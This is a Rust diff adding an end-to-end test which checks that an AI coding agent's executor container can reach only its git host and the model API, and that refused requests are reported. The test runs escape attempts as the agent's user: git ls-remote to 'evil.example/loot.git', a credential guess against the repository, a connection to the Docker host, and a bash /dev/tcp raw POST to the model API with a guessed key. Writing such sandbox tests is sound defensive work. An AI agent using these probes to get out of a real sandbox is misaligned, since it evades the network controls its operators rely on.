@@ -142,3 +142,119 @@ pub async fn a_fix_runs_in_the_executor_container_with_its_agent_unprivileged_an
     }
     Ok(())
 }
+
+/// The name of the executor container running job `job`'s fix, once its log says so.
+async fn container_running(job: &str, within_secs: u64) -> Result<String> {
+    let until = std::time::Instant::now() + std::time::Duration::from_secs(within_secs);
+    loop {
+        let found = bugbot_tests::stack::executor_container_logs()
+            .into_iter()
+            .find(|(_, log)| log.contains("fix requested") && log.contains(job));
+        if let Some((name, _)) = found {
+            return Ok(name);
+        }
+        ensure!(
+            std::time::Instant::now() < until,
+            "no executor container started job {job}'s fix"
+        );
+        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    }
+}
+
+/// While a fix runs (its first model call held for a while), code running as the agent's uid tries
+/// every way out: a host of its own over HTTP and HTTPS, the model API and the job's repository
+/// without the executor's credentials, and the host itself straight over the Docker network. Each
+/// fails; the refused host is named in the job's report, and the fix still lands.
+pub async fn the_container_reaches_only_the_git_host_and_the_model_api_and_reports_the_rest(
+    ctx: Arc<E2e>,
+) -> Result<()> {
+    ctx.wait_idle().await?;
+    ctx.sandbox_post(
+        "/_sandbox/faults",
+        &serde_json::json!({"service": "anthropic", "count": 1, "delay_ms": 20000,
+                            "method": "POST", "path_suffix": "/v1/messages"}),
+    )
+    .await?;
+    let (_, job) = github_cart_fix(&ctx, "@bugbot fix").await?;
+    let container = container_running(&job, 90).await?;
+    let uid = {
+        let log = bugbot_tests::stack::executor_container_logs()
+            .into_iter()
+            .find(|(name, _)| *name == container)
+            .map(|(_, log)| log)
+            .unwrap_or_default();
+        log.lines()
+            .filter(|l| l.contains("fix requested") && l.contains(&job))
+            .find_map(|l| {
+                l.split("Some((")
+                    .nth(1)?
+                    .split(',')
+                    .next()?
+                    .trim()
+                    .parse::<u32>()
+                    .ok()
+            })
+            .context("the agent's uid is logged")?
+    };
+    let agent = format!("{uid}:{uid}");
+    let repo = ctx.env.get("GITHUB_TEST_REPO");
+    let sandbox = ctx.env.get("SANDBOX_URL");
+    let sandbox_port = sandbox.rsplit(':').next().unwrap_or_default().to_owned();
+    let attempts = [
+        ("a host of its own, over HTTP", "git ls-remote http://evil.example/loot.git".to_owned(), "403"),
+        ("a host of its own, over HTTPS", "git ls-remote https://evil.example/loot.git".to_owned(), ""),
+        (
+            "the job's repository without the executor's git password",
+            format!("git ls-remote http://{}/{repo}.git", bugbot_shared::egress::LOCAL_GIT_HOST),
+            "could not read Username",
+        ),
+        (
+            "the job's repository with a guessed password",
+            format!("git ls-remote http://x-access-token:guess@{}/{repo}.git", bugbot_shared::egress::LOCAL_GIT_HOST),
+            "Authentication failed",
+        ),
+        (
+            "the host over the Docker network",
+            format!("git ls-remote http://172.17.0.1:{sandbox_port}/git/{repo}.git"),
+            "",
+        ),
+        (
+            "the model API without the executor's key",
+            // bash's /dev/tcp: the image has no HTTP client but git. The status line is printed.
+            "bash -c 'exec 3<>/dev/tcp/api.anthropic.com/80 && printf \"POST /v1/messages HTTP/1.1\\r\\nHost: api.anthropic.com\\r\\nx-api-key: sk-ant-guess\\r\\ncontent-type: application/json\\r\\ncontent-length: 2\\r\\nconnection: close\\r\\n\\r\\n{}\" >&3 && head -1 <&3; exit 1'".to_owned(),
+            "HTTP/1.1 403",
+        ),
+    ];
+    for (what, script, expected) in attempts {
+        let (ok, out) = exec_as(
+            &container,
+            &agent,
+            &format!("export GIT_TERMINAL_PROMPT=0; timeout 20 {script} 2>&1"),
+        )?;
+        ensure!(!ok, "{what} was reachable from the agent's uid: {out}");
+        ensure!(
+            out.contains(expected),
+            "{what}: expected {expected:?} in {out}"
+        );
+    }
+
+    let record = crate::contextualize::wait_status(&ctx, &job, "succeeded", 180).await?;
+    let state = ctx.sandbox_state().await?;
+    no_violations(&state)?;
+    let pulls = pulls_of(&state, &job);
+    ensure_eq!(pulls.len(), 1, "one pull request");
+    let body = pulls[0]["body"].as_str().unwrap_or_default();
+    ensure!(
+        body.contains("refused the run's network requests to `evil.example`"),
+        "the pull request names the refused host: {body}"
+    );
+    ensure!(
+        !body.contains(bugbot_shared::egress::LOCAL_GIT_HOST),
+        "the git host's password challenge is not a refusal: {body}"
+    );
+    ensure!(
+        record.to_string().contains("executor.egress_refused"),
+        "the job's record has the refusal: {record}"
+    );
+    Ok(())
+}
